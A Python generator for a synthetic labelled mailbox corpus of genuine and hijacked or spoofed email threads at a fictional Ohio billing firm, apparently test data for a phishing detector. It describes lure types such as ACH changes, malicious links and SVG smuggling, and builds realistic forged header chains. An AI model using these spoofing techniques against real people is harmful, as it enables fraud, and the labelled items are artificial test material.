#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-11.py OUT_DIR
# Mailbox "dwhitfield": Dana Whitfield, office manager + accounts payable at Brightwater Billing & Accounting, LLC
# (Columbus OH, healthcare billing / accounting), Outlook for Microsoft 365 (Exchange Online, Date headers in +0000).
# English only; partners in the US, UK, Canada and Australia, each on a consistent mail system: Outlook M365 (Lakeshore,
# Summit shared mailbox, Brightwater internal), Outlook for Mac on M365 (Pennant, UK), Outlook 2016 on on-prem Exchange 2016
# (Northfield, Canada, no DKIM, local-time Date), Google Workspace web (Cedar Ridge, Veritas), Apple Mail + iPhone Mail on
# Google Workspace (Brooks), Gmail web (Sam Ortiz), Android Gmail (Ray Dunn), Thunderbird on Postfix (Mendez IT),
# Zoho Mail (Parkside Payroll), Yahoo web (Linda Marsh), Fastmail (Reilly Coding, Sydney), Roundcube on a cPanel host
# (Kowalski Office Supply), plus DocuSign, Adobe Acrobat Sign, Zendesk, a Google Group, Exchange Online MDN/NDR.
# Files are numbered in arrival order across INBOX and Sent; only test messages are labelled (labels.tsv) and described
# (scenarios.tsv). Deterministic: everything random comes from one seeded random.Random. Attachments are inert
# (random bytes / fake text); no real malware, all payload URLs are fictional.
#
# Scenarios (thread, id, label/kind, description)
#  T1  Lakeshore Pediatric (Marcus Bell, Outlook M365 w/ logo): January remittance reconciliation
#      G01 genuine-reply  Marcus answers with a SharePoint link (he always shares SharePoint links)
#      G02 genuine-hard   Marcus shares a new folder on his own tenant's SharePoint (lakeshorepeds.sharepoint.com)
#      G03 genuine-hard   Outlook read receipt (MDN, multipart/report disposition-notification) for Dana's message
#  T2  Lakeshore: disputed collection-agency invoice
#      G04 genuine-reply  Marcus replies
#      G05 genuine-hard   Marcus replies-all adding the group's attorney (Rachel Stein) in Cc
#      A10 hijack/display-name-spoof  "Marcus Bell" <marcus.bell.lpg@gmail.com> in the thread, asks to pay the agency settlement today
#  T3  G06 genuine-orphan Marcus "FW:" of a payer's remittance email with the payer's original .xlsx (no In-Reply-To)
#  T4  Cedar Ridge Family Medicine (Priya Raman, Google Workspace web, Denver): monthly billing report, Jan-Mar 2025 over DST
#      G07 genuine-reply  Priya replies (MST -0700)
#      G08 genuine-hard   Priya replies after the DST switch (MDT -0600) in the same thread
#      G09 genuine-hard   Priya's inline-edited reply "answers in blue below" (HTML blue, trimmed quote)
#      A02 hijack/account-takeover  October: reply to the February message (8 months old), sent through smtp.gmail.com by a
#          script from a VPS (no Gmail web fingerprint, Date -0400), Dropbox link to a "report" zip
#  T5  Cedar Ridge: services agreement renewal; G10 genuine-hard Adobe Acrobat Sign notification (announced), G11 genuine-reply
#  T6  Kowalski Office Supply (Tom, Roundcube on cPanel): toner and paper order
#      G12 genuine-reply  Tom confirms
#      A01 hijack/server-hijack  same Roundcube/cPanel/Exim path and DKIM, short "toner order" text, link to .msi on a compromised WordPress site
#  T7  Kowalski: statement of account; Beth left, Alyssa takes over
#      G13 genuine-hard   Exchange Online NDR (DSN) for Dana's message to the departed clerk
#      G14 genuine-hard   Alyssa Grant (new, announced by Tom) answers from the same server
#  T8  Pennant Health Analytics (Gavin Hughes, Outlook for Mac on M365, London): denial trends pack, long thread
#      G15 genuine-reply  Gavin replies
#      G16 genuine-hard   Teams meeting invitation (text/calendar) from Gavin
#      G17 genuine-hard   link to Pennant's new Kiteworks file portal, domain announced in the thread text
#      A03 hijack/account-takeover  August: OWA session (no Mac Outlook UA, en-US, 03:12 London) replying to a May message, link
#          to an unrelated tenant's SharePoint/OneDrive
#  T9  Northfield Medical Imaging (Doug Patterson, Outlook 2016 / Exchange 2016, Toronto): records request batches (always zips)
#      G18 genuine-hard   zip of scanned PDFs again
#      G19 genuine-hard   Exchange 2016 "Automatic reply" (Auto-Submitted: auto-replied)
#      G20 genuine-reply  Doug back from vacation
#  T10 Northfield: imaging invoices
#      G21 genuine-reply
#      A05 hijack/server-hijack  same Exchange 2016 path/headers, .img disk image attachment
#  T11 Linda Marsh (Yahoo web, Phoenix): quarterly 941 worksheets
#      G22 genuine-reply
#      A04 hijack/account-takeover  Linda's Yahoo account (same webmail fingerprint), SVG attachment with a credential-page smuggler
#  T12 Mendez IT (Carlos, Thunderbird on Postfix): scanner driver
#      G23 genuine-reply
#      A13 hijack/server-hijack  same Postfix/Thunderbird path, quoted history real except the driver link
#  T13 Mendez IT: remote session; G24 genuine-hard ScreenConnect link, instance domain announced in the text
#  T14 Parkside Payroll (Jenna Park, Zoho Mail, Chicago): 1099-NEC filings
#      G25 genuine-reply
#      G26 genuine-hard   thread revived after 9 months (January 2026) with year-end tax PDF
#  T15 Parkside: new-hire direct deposit
#      G27 genuine-reply
#      A11 hijack/display-name-spoof  "Jenna Park jenna@parksidepayroll.example" <jenna.parksidepayroll@outlook.com>, payroll funding account change
#  T16 Reilly Clinical Coding (Shannon, Fastmail, Sydney): coding audit
#      G28 genuine-reply, G29 genuine-hard (Saturday-morning Sydney reply = Friday evening Ohio, AU spelling)
#  T17 Ray Dunn landlord (Android Gmail): HVAC + lease
#      G30 genuine-reply
#      A06 hijack/account-takeover  Ray's Gmail used from Gmail web (not Android), zip with a .lnk + decoy
#  T18 Brooks Benefit Advisors (Natalie, Apple Mail + iPhone on Google Workspace): group health renewal
#      G31 genuine-reply
#      G32 genuine-hard   Natalie from her iPhone at 11:40 pm
#      A08 hijack/account-takeover  "secure message" lure sent from Natalie's account via Gmail web, pages.dev link
#  T19 Sam Ortiz (Gmail web, Los Angeles): transcription invoices
#      G33 genuine-reply
#      A07 hijack/account-takeover  PDF whose only content is a "View document" link button (r2.dev)
#  T20 Summit Medical Supply (billing@ shared mailbox, Outlook M365 w/ logo)
#      G34 genuine-reply  answered by Keisha
#      G35 genuine-hard   answered by a different person (Dan) from the shared mailbox
#      G36 genuine-hard   invoice link on Summit's new Billtrust portal (move announced earlier in the thread)
#      A09 hijack/lookalike-domain  billing@summit-medsupply.example (added hyphen), quotes the thread, new Cc + Reply-To, ACH change
#  T21 Veritas RCM (Aaron Whitley, new partner, Google Workspace): G37 genuine-hard Zoom link
#  T22 Clearpath Clearinghouse (Zendesk): G38 genuine-hard ticket reply with refs, G39 genuine-orphan ticket update without In-Reply-To
#  T23 Google Group "Central Ohio AP Roundtable": G40 genuine-hard member reply through the group
#  T24 Brightwater internal (Kevin Lambert, Outlook M365): payment run; G41, G42 genuine-reply
#  T25 Stein Legal: G43 genuine-hard DocuSign envelope from the attorney (announced in T2)
#  T26 A12 hijack/fake-thread  stranger (Harborline Staffing), "RE:" subject, fabricated quote of Dana, OneDrive-lookalike link
import base64, datetime, hashlib, html as H, io, os, quopri, random, sys, uuid, zipfile
from zoneinfo import ZoneInfo

root = sys.argv[1]
MB = "dwhitfield"
for f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{f}", exist_ok=True)
R = random.Random(20250611)
NY = ZoneInfo("America/New_York"); CHI = ZoneInfo("America/Chicago"); DEN = ZoneInfo("America/Denver")
LA = ZoneInfo("America/Los_Angeles"); PHX = ZoneInfo("America/Phoenix"); TOR = ZoneInfo("America/Toronto")
LON = ZoneInfo("Europe/London"); SYD = ZoneInfo("Australia/Sydney"); UTC = datetime.timezone.utc


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def at(y, mo, d, h, mi, tz): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)


def pdf(lines, uris=(), producer="Microsoft® Word for Microsoft 365", when="20250303091200", zone="-05'00'", rects=None):
    """small valid one-page PDF with text lines and optional /URI link annotations"""
    esc = lambda s: s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    content = ("BT /F1 11 Tf 14 TL 72 770 Td " + " ".join(f"({esc(l)}) '" for l in lines) + " ET").encode("latin-1")
    if rects:  # a drawn "button"
        content += b"\n0.16 0.38 0.74 rg 180 600 235 44 re f BT /F1 16 Tf 1 1 1 rg 222 616 Td (" + esc(rects).encode("latin-1") + b") Tj ET"
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", None,
            f"<< /Length {len(content)} >>\nstream\n", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Producer ({esc(producer)}) /CreationDate (D:{when}{zone}) /ModDate (D:{when}{zone}) >>"]
    annot_ids = []
    for i, u in enumerate(uris):
        rect = "180 600 415 644" if rects else f"72 {700 - 30 * i} 523 {724 - 30 * i}"
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [{rect}] /Border [0 0 0] /A << /S /URI /URI ({u}) >> >>")
        annot_ids.append(len(objs))
    objs[2] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"
               + (f" /Annots [{' '.join(f'{a} 0 R' for a in annot_ids)}]" if annot_ids else "") + " >>")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        if i == 4: out += f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n"
        else: out += f"{i} 0 obj\n{o}\nendobj\n".encode("latin-1")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>] >>\nstartxref\n{x}\n%%EOF\n".encode()
    return bytes(out)


def zipb(members, when=(2025, 3, 12, 16, 40, 0)):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED; z.writestr(zi, data)
    z.close(); return bio.getvalue()


def xlsx(rows):
    """minimal Office Open XML workbook (inline strings), enough to open"""
    def cell(v, r, c):
        ref = chr(65 + c) + str(r)
        if isinstance(v, (int, float)): return f'<c r="{ref}"><v>{v}</v></c>'
        return f'<c r="{ref}" t="inlineStr"><is><t>{H.escape(str(v))}</t></is></c>'
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + "".join(f'<row r="{i}">' + "".join(cell(v, i, j) for j, v in enumerate(row)) + "</row>" for i, row in enumerate(rows, 1))
             + "</sheetData></worksheet>")
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Remit" sheetId="1" r:id="rId1"/></sheets></workbook>')
    wbr = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    return zipb([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb), ("xl/_rels/workbook.xml.rels", wbr),
                 ("xl/worksheets/sheet1.xml", sheet)], when=(2025, 2, 20, 8, 15, 0))


def png(k=900): return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rbytes(k)
def jpg(k=2500): return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rbytes(k)


# ---------------------------------------------------------------- people
class Pt:
    def __init__(s, name, email, client, infra, tz, sig="", clang="en-US", host=None, logo=False):
        s.name, s.email, s.client, s.infra, s.tz, s.sig, s.clang, s.host, s.logo = name, email, client, infra, tz, sig, clang, host, logo
        s.dom = email.split("@")[1]


OWN = "brightwaterba.example"
SIG = ("\n\nDana Whitfield\nOffice Manager | Accounts Payable\nBrightwater Billing & Accounting, LLC\n"
       "1480 Dublin Rd, Suite 210, Columbus, OH 43215\nO: (614) 555-0148 | F: (614) 555-0199")
me = Pt("Dana Whitfield", f"dana.whitfield@{OWN}", "o365", "own", NY, SIG, host="SA1PR05MB8123.namprd05", logo=True)
kevin = Pt("Kevin Lambert", f"kevin.lambert@{OWN}", "o365", "internal", NY,
           "\n\nKevin Lambert, CPA\nManaging Partner\nBrightwater Billing & Accounting, LLC\n(614) 555-0140", host="SA1PR05MB7740.namprd05")
marcus = Pt("Marcus Bell", "mbell@lakeshorepeds.example", "o365", "exo-lakeshore", CHI,
            "\n\nMarcus Bell\nChief Financial Officer\nLakeshore Pediatric Group, S.C.\n2200 N Lakeview Ave, Chicago, IL 60614\nDirect 312-555-0172",
            host="DM6PR12MB4417.namprd12", logo=True)
rachel = Pt("Rachel Stein", "rstein@steinlegal.example", "o365", "exo-stein", CHI, "", host="CH2PR07MB6620.namprd07")
priya = Pt("Priya Raman", "priya.raman@cedarridgefm.example", "gws", "google-cedar", DEN,
           "\n\n-- \nPriya Raman | Practice Administrator\nCedar Ridge Family Medicine\n7150 W Alameda Ave, Lakewood, CO 80226\n303-555-0116")
tom = Pt("Tom Kowalski", "tom@kowalskioffice.example", "roundcube", "cpanel-kowalski", NY,
         "\n\nTom Kowalski\nKowalski Office Supply\n411 W Fifth Ave, Columbus OH 43201\n614-555-0187")
alyssa = Pt("Alyssa Grant", "alyssa@kowalskioffice.example", "roundcube", "cpanel-kowalski", NY,
            "\n\nAlyssa Grant\nAccounts Receivable\nKowalski Office Supply\n614-555-0187 x2")
beth = ("Beth Lyle", "beth@kowalskioffice.example")
gavin = Pt("Gavin Hughes", "gavin.hughes@pennanthealth.example", "omac", "exo-pennant", LON,
           "\n\nKind regards,\n\nGavin Hughes\nHead of Client Services | Pennant Health Analytics Ltd\n3rd Floor, 21 Whitefriars St, London EC4Y 8JJ\n+44 20 7946 0321",
           clang="en-GB", host="LO2P265MB5581.GBRP265")
doug = Pt("Doug Patterson", "dpatterson@northfieldimaging.example", "ex16", "ex16-nmi", TOR,
          "\n\nDoug Patterson\nHealth Records Supervisor\nNorthfield Medical Imaging Inc.\n905-555-0133 ext. 214", clang="en-CA")
linda = Pt("Linda Marsh", "lindamarsh.books@yahoo.com", "yahoo", "yahoo", PHX, "\n\nLinda Marsh\nMarsh Bookkeeping\n(480) 555-0161")
carlos = Pt("Carlos Mendez", "carlos@mendez-it.example", "tb", "postfix-mendez", NY,
            "\n\n-- \nCarlos Mendez\nMendez IT Solutions\n614-555-0125 | help@mendez-it.example")
jenna = Pt("Jenna Park", "jenna@parksidepayroll.example", "zoho", "zoho", CHI,
           "\n\nThanks,\nJenna Park\nClient Services Lead | Parkside Payroll Services\n847-555-0190")
shannon = Pt("Shannon Reilly", "shannon@reillycoding.example", "fastmail", "fastmail", SYD,
             "\n\nCheers,\nShannon\n\nShannon Reilly CCS\nReilly Clinical Coding Pty Ltd\n+61 2 5550 1843", clang="en-AU")
ray = Pt("Ray Dunn", "raydunn.properties@gmail.com", "android", "gmail", NY, "")
natalie = Pt("Natalie Brooks", "natalie@brooksbenefits.example", "apple", "google-brooks", NY,
             "\n\nNatalie Brooks\nBrooks Benefit Advisors\nLicensed Agent, OH #1177402\n614-555-0152")
sam = Pt("Sam Ortiz", "sam.ortiz.transcribe@gmail.com", "gmail", "gmail", LA, "\n\nSam Ortiz\nOrtiz Medical Transcription\n(323) 555-0108")
summit = Pt("Summit Medical Supply Billing", "billing@summitmedsupply.example", "o365", "exo-summit", CHI, "", host="BN8PR11MB3652.namprd11", logo=True)
aaron = Pt("Aaron Whitley", "aaron.whitley@veritasrcm.example", "gws", "google-veritas", LA,
           "\n\n-- \nAaron Whitley\nPartner Success Manager, Veritas RCM\n(628) 555-0177")

INFRA = {  # helo/rdns, ip, dkim d, dkim s, style
    "exo-lakeshore": ("mail-dm6nam12on2107.outbound.protection.outlook.com", "40.107.243.107", "lakeshorepeds.example", "selector1", "exo"),
    "exo-stein": ("mail-ch2nam04on2130.outbound.protection.outlook.com", "40.107.92.130", "steinlegal.example", "selector1", "exo"),
    "exo-summit": ("mail-bn8nam11on2120.outbound.protection.outlook.com", "40.107.236.120", "summitmedsupply.example", "selector2", "exo"),
    "exo-pennant": ("mail-lo2gbr01on2109.outbound.protection.outlook.com", "40.107.25.109", "pennanthealth.example", "selector1", "exo"),
    "google-cedar": ("mail-pj1-f52.google.com", "209.85.216.52", "cedarridgefm.example", "google", "google"),
    "google-veritas": ("mail-pl1-f171.google.com", "209.85.214.171", "veritasrcm.example", "google", "google"),
    "google-brooks": ("mail-qk1-f180.google.com", "209.85.222.180", "brooksbenefits.example", "google", "google"),
    "gmail": ("mail-wr1-f48.google.com", "209.85.221.48", "gmail.com", "20230601", "google"),
    "yahoo": ("sonic316-21.consmr.mail.ne1.yahoo.com", "66.163.187.147", "yahoo.com", "s2048", "yahoo"),
    "zoho": ("sender4-pp-o95.zoho.com", "136.143.188.95", "parksidepayroll.example", "zmail", "zoho"),
    "fastmail": ("fhigh-a4-smtp.messagingengine.com", "103.168.172.155", "reillycoding.example", "fm2", "fastmail"),
    "cpanel-kowalski": ("s1127.buckeyehost.example", "198.51.100.27", "kowalskioffice.example", "default", "cpanel"),
    "ex16-nmi": ("mail.northfieldimaging.example", "192.0.2.44", None, None, "ex16"),
    "postfix-mendez": ("mail.mendez-it.example", "203.0.113.18", "mendez-it.example", "mail", "postfix"),
    "docusign": ("mailch.na3.docusign.net", "64.207.219.75", "docusign.net", "mail", "vendor"),
    "adobesign": ("mail-na1.adobesign.com", "54.240.48.93", "adobesign.com", "adobesign1", "vendor"),
    "zendesk": ("out-128.smtp.zendesk.com", "192.161.151.128", "clearpathclaims.example", "zendesk1", "vendor"),
    "ggroup": ("mail-oo1-f61.google.com", "209.85.161.61", "googlegroups.com", "20230601", "ggroup"),
    "internal": (None, None, None, None, "internal"),
    # attacker paths
    "atk-priya-smtp": ("mail-pf1-f194.google.com", "209.85.210.194", "cedarridgefm.example", "google", "google-smtp"),
    "atk-lookalike": ("mail-mw2nam10on2104.outbound.protection.outlook.com", "40.107.94.104", "summit-medsupply.example", "selector1", "exo"),
    "outlookcom": ("mail-ch2nam12olkn2040.outbound.protection.outlook.com", "40.92.20.40", "outlook.com", "selector1", "exo"),
    "atk-fake": ("mail-sn1nam02on2119.outbound.protection.outlook.com", "40.107.96.119", "harborline-staffing.example", "selector1", "exo"),
}
EOP = ["BN2PEPF000044A9.namprd04.prod.outlook.com", "BL6PEPF0001AB51.namprd04.prod.outlook.com", "MN1PEPF0000ECD6.namprd02.prod.outlook.com",
       "CH1PEPF0000AD7B.namprd04.prod.outlook.com"]
FE = ["BN9PR03CA0591.namprd03.prod.outlook.com", "MN2PR01CA0042.prod.exchangelabs.com", "BL1PR13CA0137.namprd13.prod.outlook.com"]
MBX = "SA1PR05MB8123.namprd05.prod.outlook.com"


def ip6(): return f"2603:10b6:{R.choice(['5', '208', '408', '510', '806'])}:{R.randint(1, 0x3ff):x}::{R.randint(16, 255):x}"
def fdate(t): return t.strftime("%a, %-d %b %Y %H:%M:%S %z")
def fdate2(t): return t.strftime("%a, %d %b %Y %H:%M:%S %z")


def make_mid(who, client, t):
    if client in ("o365", "omac", "owa", "internal", "outlookcom"):
        host, reg = who.host.split(".")
        return f"<{host}{HX(16)}@{host}.{reg.upper() if reg.startswith('GBR') else reg}.prod.outlook.com>"
    if client == "ex16": return f"<{hx(32)}@NMI-EX16-01.nmi.local>"
    if client in ("gmail", "gws", "android"):
        return "<CA" + R.choice("BDEFGHJKLMNOP") + base64.urlsafe_b64encode(rbytes(36)).decode().rstrip("=")[:46] + R.choice(["", "=", "+"]) + "@mail.gmail.com>"
    if client in ("apple", "iphone"): return f"<{ruuid().upper()}@{who.dom}>"
    if client == "tb": return f"<{ruuid()}@{who.dom}>"
    if client == "zoho": return f"<{hx(11)}.{hx(14)}.{R.randint(10**18, 10**19 - 1)}@{who.dom}>"
    if client == "yahoo": return f"<{R.randint(10**8, 2 * 10**9)}.{R.randint(10**6, 10**7 - 1)}.{int(t.timestamp() * 1000)}@mail.yahoo.com>"
    if client == "fastmail": return f"<{ruuid()}@app.fastmail.com>"
    if client == "roundcube": return f"<{hx(32)}@{who.dom}>"
    return f"<{hx(24)}@{who.dom}>"


def transport(who, t, infra=None, env=None, helo_override=None):
    """Received chain etc. of an inbound message, top (Dana's Exchange Online) first"""
    infra = infra or who.infra; env = env or who.email
    helo, ip, d, s, style = INFRA[infra]
    u = t.astimezone(UTC); t1 = u + datetime.timedelta(seconds=R.randint(2, 9)); t2 = t1 + datetime.timedelta(seconds=R.randint(0, 2))
    fe, eop = R.choice(FE), R.choice(EOP)
    envdom = env.split("@")[1]
    top = [("Received", f"from {fe.split('.')[0]}.{fe.split('.', 1)[1]} ({ip6()}) by {MBX} with HTTPS; {fdate(t2)}"),
           ("Received", f"from {eop} ({ip6()}) by {fe} ({ip6()}) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) "
                        f"id 15.20.8466.{R.randint(10, 40)}; {fdate(t2)}")]
    if style == "internal":
        kh = (who.host if isinstance(who, Pt) and who.host else kevin.host).split(".")[0]
        return [("Received", f"from {kh}.namprd05.prod.outlook.com ({ip6()}) by {MBX} with HTTPS; {fdate(t1)}"),
                ("Received", f"from {kh}.namprd05.prod.outlook.com ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by "
                             f"{kh}.namprd05.prod.outlook.com\n ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%5]) with mapi id 15.20.8466.020; {fdate(u)}"),
                ("Authentication-Results", f"dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from={OWN};"),
                ("X-MS-Exchange-Organization-AuthAs", "Internal"), ("X-MS-Exchange-Organization-AuthSource", kh + ".namprd05.prod.outlook.com")]
    dk = "pass (signature was verified)" if d else "none (message not signed)"
    dm = ("pass action=none" if d else "bestguesspass action=none")
    top += [("Authentication-Results", f"spf=pass (sender IP is {ip})\n smtp.mailfrom={envdom}; dkim={dk}\n header.d={d or 'none'};dmarc={dm}\n "
                                       f"header.from={who.dom if isinstance(who, Pt) else envdom};compauth=pass reason={'100' if d else '109'}"),
            ("Received-SPF", f"Pass ({eop.split('.')[0]}.mail.protection.outlook.com: domain of\n {envdom} designates {ip} as permitted sender)\n "
                             f"receiver=protection.outlook.com; client-ip={ip}; helo={helo_override or helo}; pr=C"),
            ("Received", f"from {helo_override or helo} ({ip}) by\n {eop.split('.')[0]}.mail.protection.outlook.com ({'10.167.' + str(R.randint(240, 250)) + '.' + str(R.randint(2, 250))}) "
                         f"with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id 15.20.8466.{R.randint(10, 40)} via Frontend Transport; {fdate(t1)}")]
    hops = []
    if style == "exo":
        h = (who.host or "DM6PR12MB4417.namprd12").split(".")[0]
        reg = (who.host or "x.namprd12").split(".")[1].lower()
        hops += [("ARC-Seal", f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={b64(60)}"),
                 ("Received", f"from {h}.{reg}.prod.outlook.com ({ip6()}) by\n {h}.{reg}.prod.outlook.com ({ip6()}) with Microsoft SMTP Server\n"
                              f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8466.{R.randint(10, 40)}; {fdate(u)}"),
                 ("Received", f"from {h}.{reg}.prod.outlook.com\n ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {h}.{reg}.prod.outlook.com\n"
                              f" ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%{R.randint(3, 7)}]) with mapi id 15.20.8466.{R.randint(10, 40):03d}; {fdate(u)}")]
    elif style in ("google", "ggroup"):
        pt = u.astimezone(LA)
        hops += [("Received", f"by {helo} with SMTP id d9443c01a7336-{hx(11)}so{R.randint(10**6, 10**7)}5ad.1\n        for <{me.email}>; "
                              f"{pt.strftime('%a, %d %b %Y %H:%M:%S %z (%Z)')}"),
                 ("X-Received", f"by 2002:a17:90b:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {hx(16)}mr{R.randint(10**6, 10**7)}pjb.{R.randint(10, 99)}.{R.randint(10**12, 10**13)};\n"
                                f"        {pt.strftime('%a, %d %b %Y %H:%M:%S %z (%Z)')}")]
    elif style == "google-smtp":  # SMTP AUTH submission from a VPS through Gmail
        pt = u.astimezone(LA)
        hops += [("Received", f"from {helo} ({helo} [{ip}])\n        by mx.google.com with SMTPS id {hx(12)}.{R.randint(100, 999)}\n"
                              f"        for <{me.email}>; {pt.strftime('%a, %d %b %Y %H:%M:%S %z (%Z)')}"),
                 ("Received", f"from WIN-{HX(11)} ([{R.choice(['193.233.', '91.215.', '178.236.'])}{R.randint(2, 250)}.{R.randint(2, 250)}])\n"
                              f"        by smtp.gmail.com with ESMTPSA id {hx(12)}.{R.randint(10, 99)}.2025.{R.randint(10, 12)}.{R.randint(10, 28)}\n"
                              f"        for <{me.email}>\n        (version=TLS1_2 cipher=ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128);\n"
                              f"        {pt.strftime('%a, %d %b %Y %H:%M:%S %z (%Z)')}")]
    elif style == "yahoo":
        hops += [("Received", f"from sonic.gate.mail.ne1.yahoo.com by {helo} with HTTP; {fdate2(u)}")]
    elif style == "zoho":
        hops += [("ARC-Seal", f"i=1; a=rsa-sha256; t={int(u.timestamp())}; cv=none; d=zohomail.com; s=zohoarc;\n\tb={b64(60)}"),
                 ("Received", f"by mx.zohomail.com with SMTPS id {int(u.timestamp() * 1000)}{R.randint(100, 999)}.{R.randint(100, 999)}{R.randint(100, 999)}"
                              f"{R.randint(10, 99)}{R.randint(100, 999)}; {u.astimezone(LA).strftime('%a, %-d %b %Y %H:%M:%S %z (%Z)')}")]
    elif style == "fastmail":
        hops += [("Received", f"from phl-imap-{R.randint(10, 19)} (phl-imap-{R.randint(10, 19)} [10.202.2.{R.randint(80, 99)}])\n\tby mailfhigh.phl.internal (Postfix) "
                              f"with ESMTPA id {HX(11)};\n\t{u.astimezone(NY).strftime('%a, %-d %b %Y %H:%M:%S %z (%Z)')}"),
                 ("Received", f"from phl-compute-0{R.randint(1, 9)} ([10.202.2.{R.randint(40, 50)}])\n  by phl-compute-0{R.randint(1, 9)}.internal (MEProxy); "
                              f"{u.astimezone(NY).strftime('%a, %d %b %Y %H:%M:%S %z')}"),
                 ("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d=messagingengine.com;\n\th=cc:content-transfer-encoding:content-type:date:from:in-reply-to\n"
                                    f"\t:message-id:mime-version:references:subject:to; s=fm2; t={int(u.timestamp())}; bh={b64(32)}; b={b64(200)}")]
    elif style == "cpanel":
        lt = u.astimezone(NY)
        hops += [("Received", f"from [::1] (port={R.randint(33000, 60000)} helo={who.dom})\n\tby {helo} with esmtpa (Exim 4.97.1)\n\t(envelope-from <{env}>)\n"
                              f"\tid 1t{alnum(4)}-00000{R.randint(1, 9)}{alnum(3)}-{alnum(4)}\n\tfor {me.email};\n\t{fdate2(lt)}"),
                 ("X-AntiAbuse", "This header was added to track abuse, please include it with any abuse report"),
                 ("X-AntiAbuse", f"Primary Hostname - {helo}"), ("X-AntiAbuse", "Original Domain - brightwaterba.example"),
                 ("X-AntiAbuse", "Originator/Caller UID/GID - [47 12] / [47 12]"), ("X-AntiAbuse", f"Sender Address Domain - {envdom}"),
                 ("X-Get-Message-Sender-Via", f"{helo}: authenticated_id: {env}"), ("X-Authenticated-Sender", f"{helo}: {env}")]
    elif style == "ex16":
        lt = u.astimezone(TOR)
        hops += [("Received", f"from NMI-EX16-02.nmi.local (10.20.1.22) by NMI-EX16-01.nmi.local\n (10.20.1.21) with Microsoft SMTP Server (version=TLS1_2,\n"
                              f" cipher=TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA384_P384) id 15.1.2507.39; {fdate(lt)}"),
                 ("Received", f"from NMI-EX16-01.nmi.local ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by\n NMI-EX16-01.nmi.local ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%12]) "
                              f"with mapi id\n 15.01.2507.039; {fdate(lt)}")]
    elif style == "postfix":
        lt = u.astimezone(NY)
